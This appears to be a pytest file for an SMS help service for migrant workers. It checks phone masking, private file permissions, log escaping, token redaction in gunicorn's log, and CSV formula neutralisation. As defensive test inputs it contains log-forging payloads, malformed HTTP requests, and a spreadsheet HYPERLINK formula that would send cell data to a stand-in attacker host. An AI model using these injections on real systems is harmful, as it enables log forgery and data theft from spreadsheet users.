"""Personal data and logs: phones masked to the country code and 3 digits, instance/ and SQLite private, control
characters escaped in log lines, no token in gunicorn's own log, no formula in a CSV export."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from models import Person, database
from models.phones import mask
from service import create_app, logs
from tests.support.paths import ROOT
from tests.support.ports import free_port
from tests.support.process_output import OutputWatcher
from tests.support.settings import SHORT_CODE, TOKEN

LINE_START = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR|CRITICAL) ")


# Masking ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "phone,masked",
    [
        ("+6281234567890", "+62********890"),
        ("+6591234567", "+65*****567"),
        ("+85291234567", "+852*****567"),
        ("+886912345678", "+886******678"),
        ("+12025550123", "+1*******123"),
        ("081234567890", "*********890"),
        ("123456", "******"),
        ("", ""),
    ],
)
def test_mask_keeps_the_country_code_and_the_last_three_digits(phone, masked):
    assert mask(phone) == masked


def test_a_conversation_logs_no_more_of_a_number_than_its_country_code_and_three_digits(send_sms, drain, caplog):
    caplog.set_level(logging.INFO)  # the service's level (peewee's DEBUG lines carry query parameters)
    phone = "+6591234567"
    assert send_sms(phone, "BANTUAN").status_code == 200
    assert send_sms(phone, "DAFTAR").status_code == 200
    drain()
    messages = [record.getMessage() for record in caplog.records]
    assert any("+65*****567" in message for message in messages), messages
    assert not any("91234" in message or "1234567" in message for message in messages), messages


# Files -----------------------------------------------------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def fresh_instance(tmp_path, monkeypatch, base_config):
    """An instance folder of its own, with the default database inside it, and a permissive umask; yields the
    folder. The shared database is bound again afterwards."""
    folder = tmp_path / "instance"
    monkeypatch.setenv("INSTANCE_PATH", str(folder))
    old_umask = os.umask(0o022)
    try:
        yield folder
    finally:
        os.umask(old_umask)
        if not database.is_closed():
            database.close()
        create_app(base_config)


def _write_to(folder: Path, base_config) -> None:
    app = create_app({**base_config, "DATABASE_URL": f"sqlite:///{folder / 'kawalmigran.db'}"})
    with app.app_context():
        database.execute_sql("CREATE TABLE IF NOT EXISTS probe (id INTEGER PRIMARY KEY, phone TEXT)")
        database.execute_sql("INSERT INTO probe (phone) VALUES ('+6281234567890')")
        assert (folder / "kawalmigran.db-wal").exists() and (folder / "kawalmigran.db-shm").exists()
        for name in ("kawalmigran.db", "kawalmigran.db-wal", "kawalmigran.db-shm"):
            assert _mode(folder / name) == 0o600, name
        database.close()


def test_instance_folder_and_sqlite_files_are_the_owners_only(fresh_instance, base_config):
    _write_to(fresh_instance, base_config)
    assert _mode(fresh_instance) == 0o700
    assert _mode(fresh_instance / "secret_key") == 0o600


def test_a_world_readable_instance_from_before_is_made_private(fresh_instance, base_config):
    fresh_instance.mkdir(mode=0o755)
    os.chmod(fresh_instance, 0o755)
    database_file = fresh_instance / "kawalmigran.db"
    database_file.touch()
    os.chmod(database_file, 0o644)
    _write_to(fresh_instance, base_config)
    assert _mode(fresh_instance) == 0o700 and _mode(database_file) == 0o600


# Control characters ----------------------------------------------------------------------------------------


@pytest.fixture
def log_lines(app):
    """Lines written by a root handler in the app's format that has the app's filter, as a function."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter(logs.LOG_FORMAT))
    root = logging.getLogger()
    root.addHandler(handler)
    logs.init_app(app)
    try:
        yield lambda: stream.getvalue().splitlines()
    finally:
        root.removeHandler(handler)


FORGED = "2026-11-28 06:00:00,000 ERROR service.health: database unreachable"


@pytest.mark.parametrize("separator", ["\n", "\r\n", "\r", "\u2028", "\x1b[2K\r"])
def test_a_newline_in_an_sms_id_cannot_forge_a_log_line(client, log_lines, separator):
    provider_id = f"ATXid_1{separator}{FORGED}"
    form = {
        "from": "+6281234567001",
        "to": SHORT_CODE,
        "text": "BANTUAN",
        "id": provider_id,
        "date": "2026-11-28T06:04:45Z",
    }
    assert client.post(f"/webhooks/at/sms?token={TOKEN}", data=form).status_code == 200
    assert client.post(f"/webhooks/at/sms?token={TOKEN}", data=form).status_code == 200  # the replay logs the id
    assert (
        client.post(f"/webhooks/at/delivery?token={TOKEN}", data={"id": provider_id, "status": "Success"}).status_code
        == 200
    )  # unknown id: logged

    lines = log_lines()
    carrying = [line for line in lines if FORGED in line]
    assert len(carrying) >= 2, lines
    assert all(LINE_START.match(line) for line in lines), "every line is one the service wrote"
    assert not any(line.startswith(FORGED) for line in lines)
    assert all(separator.encode("unicode_escape").decode("ascii") in line for line in carrying)
    assert not any(ch in "".join(lines) for ch in "\r\x1b\u2028")


def test_escaping_keeps_letters_of_every_language():
    assert logs.escape_controls("Siti Aminah 中文 é ꦗꦮ\ttab\x00") == "Siti Aminah 中文 é ꦗꦮ\\ttab\\x00"


# gunicorn's own log ----------------------------------------------------------------------------------------


def test_gunicorn_logs_a_malformed_request_line_without_its_token(tmp_path, redis_url, database_url):
    port = free_port()
    other_secret = "SECRET-not-the-configured-token-4711"
    env = {
        **os.environ,
        "HOST": "127.0.0.1",
        "PORT": str(port),
        "WEB_CONCURRENCY": "1",
        "INSTANCE_PATH": str(tmp_path),
        "DATABASE_URL": database_url,
        "REDIS_URL": redis_url,
        "WEBHOOK_TOKEN": TOKEN,
    }
    process = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", "gunicorn.conf.py", "service:create_app()"],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    output = OutputWatcher(process.stdout)
    try:
        assert output.wait_for(f"Listening at: http://127.0.0.1:{port}", timeout=20), output.text
        for request in (
            f"GET /webhooks/at/sms?token={TOKEN} HTTP/1.1 junk\r\nHost: x\r\n\r\n",
            f"POST /webhooks/at/sms?token={other_secret}\x01 HTTP/1.1\r\nHost: x\r\n\r\n",
            f"GET /webhooks/at/sms?token={TOKEN}&x=\nforged HTTP/1.1\r\n\r\n",
        ):
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                sock.sendall(request.encode("latin-1"))
                assert sock.recv(100).startswith(b"HTTP/1.1 400")
        assert output.wait_for("Invalid request from ip=127.0.0.1", timeout=10), output.text
    finally:
        process.terminate()
        process.wait(20)
    log = output.finish()
    assert "Invalid request from ip=127.0.0.1" in log, log
    assert "token=***" in log
    assert TOKEN not in log and other_secret not in log


# CSV exports -----------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://ev.il/"&A2)'
"""A formula a spreadsheet would run, short enough for a name (30 characters, as PostgreSQL enforces)."""


def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(runner):
    Person.create(
        phone="+6281234567004", name=HYPERLINK, village="+1", status="purna", country="hongkong", language="id"
    )
    Person.create(phone="+85291234567", name="@SUM(1+1)", village="-2+3", status="aktif", language="id")
    Person.create(phone="+6281234567005", name="Siti - Aminah", village="Tracap", status="calon", language="id")

    result = runner.invoke(args=["export", "people", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {row["phone"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert (rows["+6281234567004"]["name"], rows["+6281234567004"]["village"]) == ("'" + HYPERLINK, "'+1")
    assert (rows["+85291234567"]["name"], rows["+85291234567"]["village"]) == ("'@SUM(1+1)", "'-2+3")
    assert (rows["+6281234567005"]["name"], rows["+6281234567005"]["village"]) == ("Siti - Aminah", "Tracap")
    assert set(rows) == {"+6281234567004", "+85291234567", "+6281234567005"}, "E.164 phones are kept as numbers"
    assert not any(
        line.startswith(("=", "@", "-")) or ",=" in line or ",+1" in line for line in result.stdout.splitlines()[1:]
    )

    records = json.loads(runner.invoke(args=["export", "people"]).stdout)
    assert {r["name"] for r in records} == {HYPERLINK, "@SUM(1+1)", "Siti - Aminah"}, "JSON is data, kept as stored"
